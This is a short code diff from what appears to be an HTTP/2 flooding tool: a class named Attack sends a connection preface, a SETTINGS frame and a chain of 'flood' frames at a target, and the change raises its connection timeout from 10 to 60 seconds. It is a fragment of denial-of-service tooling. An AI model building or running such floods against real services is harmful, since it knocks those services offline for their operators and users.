@@ -207,7 +207,7 @@ class Attack:
         self._received = b""
         self._pieces = itertools.chain([PREFACE + frame(SETTINGS, 0, 0, flood.settings)], flood.frames(target))
         self._pending = b""
-        self._socket = socket.create_connection(address, 10)
+        self._socket = socket.create_connection(address, 60)
         if tls_context:
             tls_context.set_alpn_protocols(["h2"])
             self._socket = tls_context.wrap_socket(self._socket, server_hostname=tls_name)
